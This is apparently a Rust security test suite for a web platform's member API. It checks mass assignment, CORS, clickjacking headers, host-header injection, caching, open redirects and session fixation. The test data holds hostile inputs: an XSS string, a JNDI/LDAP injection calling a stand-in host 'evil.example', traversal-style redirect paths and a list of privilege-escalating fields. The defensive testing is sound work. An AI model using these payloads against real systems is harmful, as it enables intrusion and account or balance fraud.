use erawan_testkit::{Actor, PASSWORD, TestServer, both_engines};
use reqwest::header::{
    ACCESS_CONTROL_ALLOW_ORIGIN, CACHE_CONTROL, CONTENT_SECURITY_POLICY, LOCATION, X_FRAME_OPTIONS,
};
use reqwest::redirect::Policy;
use reqwest::{Client, Method, RequestBuilder};
use serde_json::{Value, json};
use uuid::Uuid;

use super::authorisation::{Call, Things, Who, table};

/// Fields that an attacker would like to set about themselves, next to the fields of a call.
const GREEDY: &str = r#""type":2,"kind":2,"customerType":2,"balance":"1000000.00","sumBalance":"1000000.00","vip":"Diamond",
    "status":"gold","rebate":"1","recommenderId":"mem_00000000000000000000000000000000","merchantCode":"other",
    "memberId":"mem_00000000000000000000000000000000","isDisabled":false,"is_disabled":false,"mustChangePassword":false,
    "isPhoneProven":true,"provenAtMs":1,"fresh":true,"freshUntil":9999999999999,"payoutsHeldUntil":0"#;

fn parts(call: &Call, things: &Things) -> (Method, String) {
    let (method, path) = call.operation.split_once(' ').expect("a method and a path");
    (method.parse().expect("a method"), format!("{}?{}", things.fill_in(path), call.query))
}

/// The call as the actor would make it, with the body of its row.
fn honest(actor: &Actor, call: &Call, things: &Things) -> RequestBuilder {
    let (method, path) = parts(call, things);
    let request = actor.request(method, &path).header("Idempotency-Key", Uuid::nil().to_string());
    match &call.body {
        Some(body) if body.starts_with('{') => {
            request.header("Content-Type", "application/json").body(things.fill_in(body))
        }
        Some(body) => {
            request.header("Content-Type", "application/x-www-form-urlencoded").body(things.fill_in(body))
        }
        None => request,
    }
}

fn is_write(call: &Call) -> bool {
    !call.operation.starts_with("GET ")
}

/// Calls that leave the session as it is.
fn keeps_the_session(call: &Call) -> bool {
    !call.operation.contains("/logout") && !call.operation.ends_with("/wps/session/devices")
}

/// Everything about the member that members cannot set themselves.
async fn access(server: &TestServer, member: &Actor) -> Option<String> {
    let access = format!(
        "SELECT kind || ' ' || is_disabled || ' ' || username || ' ' || (referrer_id IS NULL) || ' ' || \
         (SELECT COUNT(*) FROM member_claim WHERE proven_at_ms IS NOT NULL) FROM member WHERE username = '{}'",
        member.username
    );
    server.query_text(&access).await
}

both_engines! {
    async fn a34_no_write_lets_a_member_decide_what_is_not_for_members(server: &TestServer) {
        let member = server.member("greedy8888").await;
        let things = Things::of(server, &member).await;
        let before = (access(server, &member).await, member.get("/wps/wallets/gcs").await.ok()["sumBalance"].clone());
        assert!(before.0.is_some());
        let mut tried = 0;
        for call in table().iter().filter(|call| is_write(call) && keeps_the_session(call)) {
            let Some(body) = call.body.as_ref().filter(|body| body.starts_with('{')) else { continue };
            let inside = things.fill_in(body).trim().trim_start_matches('{').trim_end_matches('}').trim().to_owned();
            // What the row sends comes last, so that it counts where a name is there twice.
            let separator = if inside.is_empty() { "" } else { "," };
            let own: Vec<String> = serde_json::from_str::<Value>(&format!("{{{inside}}}"))
                .ok()
                .and_then(|body| body.as_object().map(|fields| fields.keys().cloned().collect()))
                .unwrap_or_default();
            let greedy: Value = serde_json::from_str(&format!("{{{GREEDY}}}")).expect("an object");
            let mut greedy = greedy.as_object().expect("an object").clone();
            greedy.retain(|name, _| !own.contains(name));
            let greedy = serde_json::to_string(&greedy).expect("JSON");
            let greedy = greedy.trim_start_matches('{').trim_end_matches('}').to_owned();
            let (method, path) = parts(call, &things);
            let request = member.request(method, &path).header("Idempotency-Key", Uuid::nil().to_string());
            let request = request.header("Content-Type", "application/json").body(format!("{{{greedy}{separator}{inside}}}"));
            let reply = member.send(request).await;
            assert!(reply.status.as_u16() < 500, "{}: {}", call.operation, reply.text);
            tried += 1;
        }
        assert!(tried > 20, "{tried} writes were tried");
        let mut again = server.visitor().at("10.31.0.1");
        again.log_in("greedy8888").await;
        assert_eq!(again.get("/wps/member/info").await.ok()["type"], 0);
        let after = (access(server, &member).await, again.get("/wps/wallets/gcs").await.ok()["sumBalance"].clone());
        assert_eq!(after, before);
    }

    async fn a35_a_page_of_somebody_else_can_neither_send_nor_read(server: &TestServer) {
        let member = server.member("surfing888").await;
        let things = Things::of(server, &member).await;
        for call in table() {
            let (method, path) = parts(&call, &things);
            let preflight = member
                .request(Method::OPTIONS, &path)
                .header("Origin", "https://evil.example")
                .header("Access-Control-Request-Method", method.as_str())
                .header("Access-Control-Request-Headers", "authorization,merchant,content-type");
            let reply = member.send(preflight).await;
            assert!(!reply.status.is_success(), "{} answers a preflight", call.operation);
            assert!(reply.headers.get(ACCESS_CONTROL_ALLOW_ORIGIN).is_none(), "{}", call.operation);
        }
        // What a form or a script elsewhere can send without asking first: no header of ours, three types of body.
        let browser = Client::builder().cookie_store(true).build().expect("a browser");
        for call in table().iter().filter(|call| is_write(call)) {
            let (method, path) = parts(call, &things);
            let body = things.fill_in(call.body.as_deref().unwrap_or("{}"));
            for kind in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"] {
                for origin in ["https://evil.example", "null"] {
                    let request = browser
                        .request(method.clone(), format!("{}{path}", server.url))
                        .header("Origin", origin)
                        .header("Content-Type", kind)
                        .body(body.clone());
                    let response = request.send().await.expect("the server answers");
                    assert!(!response.status().is_success(), "{} takes {kind} from {origin}", call.operation);
                    assert!(response.headers().get(ACCESS_CONTROL_ALLOW_ORIGIN).is_none(), "{}", call.operation);
                }
            }
        }
        member.get("/wps/member/info").await.ok();
    }

    async fn a35_json_is_taken_as_json_only(server: &TestServer) {
        let visitor = server.visitor();
        server.member("ordinary88").await;
        for kind in ["text/plain", "application/x-www-form-urlencoded", "application/jsonx", ""] {
            let body = json!({ "username": "ordinary88", "password": PASSWORD }).to_string();
            let request = visitor.request(Method::POST, "/wps/session/login").header("Content-Type", kind).body(body);
            visitor.send(request).await.refused("request.malformed");
        }
    }

    async fn a35_only_games_may_be_framed_and_only_by_the_platform(server: &TestServer) {
        let browser = Client::new();
        for (path, options, ancestors) in [
            ("/m/home", "DENY", "frame-ancestors 'none'"),
            ("/m/login", "DENY", "frame-ancestors 'none'"),
            ("/m/securityCenter", "DENY", "frame-ancestors 'none'"),
            ("/wps/system/status", "DENY", "frame-ancestors 'none'"),
            ("/dev/outbox", "DENY", "frame-ancestors 'none'"),
        ] {
            let response = browser.get(format!("{}{path}", server.url)).send().await.expect("an answer");
            let header = |name| response.headers().get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
            assert_eq!(header(X_FRAME_OPTIONS), options, "{path}");
            assert!(header(CONTENT_SECURITY_POLICY).contains(ancestors), "{path}");
        }
    }

    async fn a37_whatever_the_caller_calls_us_no_answer_repeats_it(server: &TestServer) {
        let member = server.member("spelling88").await;
        let things = Things::of(server, &member).await;
        for call in table().iter().filter(|call| keeps_the_session(call) && !call.operation.ends_with("/wps/stream")) {
            let request = honest(&member, call, &things)
                .header("Host", "evil.example")
                .header("X-Forwarded-Host", "evil.example")
                .header("Forwarded", "host=evil.example")
                .header("X-Original-URL", "/evil.example")
                .header("Referer", "https://evil.example/");
            let reply = member.send(request).await;
            assert!(!reply.text.contains("evil.example"), "{}: {}", call.operation, reply.text);
            let headers = format!("{:?}", reply.headers);
            assert!(!headers.contains("evil.example"), "{}: {headers}", call.operation);
        }
    }

    async fn a37_answers_to_a_member_are_kept_by_nobody_on_the_way(server: &TestServer) {
        let member = server.member("private888").await;
        let things = Things::of(server, &member).await;
        for call in table().iter().filter(|call| keeps_the_session(call)) {
            let response = honest(&member, call, &things).send().await.expect("an answer");
            let kept = response.headers().get(CACHE_CONTROL).and_then(|value| value.to_str().ok()).unwrap_or_default();
            let is_public_list = call.who == Who::All && kept == "no-cache";
            assert!(kept.contains("no-store") || is_public_list, "{}: {kept:?}", call.operation);
        }
    }

    async fn a37_what_a_browser_calls_itself_is_not_shown_to_anybody(server: &TestServer) {
        let mut member = server.member("mistrust88").await;
        let name = "<script>alert(1)</script> Firefox/1.0\u{9}${jndi:ldap://evil.example/a} Android";
        let body = json!({ "username": "mistrust88", "password": PASSWORD });
        let login = member.request(Method::POST, "/wps/session/login").header("User-Agent", name).json(&body);
        let answer = member.send(login).await.ok();
        member.adopt(&answer);
        for path in ["/wps/session/devices", "/wps/member/lastLogins"] {
            let text = member.get(path).await.text;
            assert!(text.contains("Firefox, Android"), "{text}");
            assert!(!text.contains("script") && !text.contains("jndi"), "{text}");
        }
    }

    async fn a24_an_address_nobody_knows_leads_home_and_nowhere_else(server: &TestServer) {
        let browser = Client::builder().redirect(Policy::none()).build().expect("a browser");
        for (path, leads_to) in [
            ("/nowhere", Some("/m/home")),
            ("//evil.example/m", Some("/m/home")),
            ("/%5Cevil.example", Some("/m/home")),
            ("/m%2f..%2f..//evil.example", Some("/m/home")),
            ("/https:/evil.example", Some("/m/home")),
            ("/?returnTo=https://evil.example", None),
        ] {
            let response = browser.get(format!("{}{path}", server.url)).send().await.expect("an answer");
            let location = response.headers().get(LOCATION).map(|location| location.to_str().expect("an address"));
            assert_eq!(location, leads_to, "{path}");
        }
    }

    async fn a17_a_session_somebody_else_chose_is_never_the_ones_who_logs_in(server: &TestServer) {
        server.member("targeted88").await;
        let attacker = server.member("attacker88").await;
        let chosen = attacker.token.clone().expect("a token");
        // The victim's browser was made to send the attacker's token, or one that never was.
        for planted in [chosen.clone(), "ab".repeat(32)] {
            let mut victim = server.visitor().at("10.33.0.1");
            victim.token = Some(planted.clone());
            let body = json!({ "username": "targeted88", "password": PASSWORD, "token": planted, "sessionId": planted });
            let answer = victim.post("/wps/session/login", body).await.ok();
            assert_ne!(answer["token"], planted);
            victim.adopt(&answer);
            assert_eq!(victim.get("/wps/member/info").await.ok()["account"], "targeted88");
        }
        assert_eq!(attacker.get("/wps/member/info").await.ok()["account"], "attacker88");
        let mut joining = server.visitor().at("10.33.0.2");
        joining.token = Some(chosen.clone());
        let form = json!({
            "username": "joining888", "password": PASSWORD, "confirmPassword": PASSWORD, "birthday": "1990-05-17",
            "token": chosen,
        });
        let answer = joining.put("/wps/member/register", form).await.ok();
        assert_ne!(answer["token"], chosen);
        assert_eq!(attacker.get("/wps/member/info").await.ok()["account"], "attacker88");
    }
}
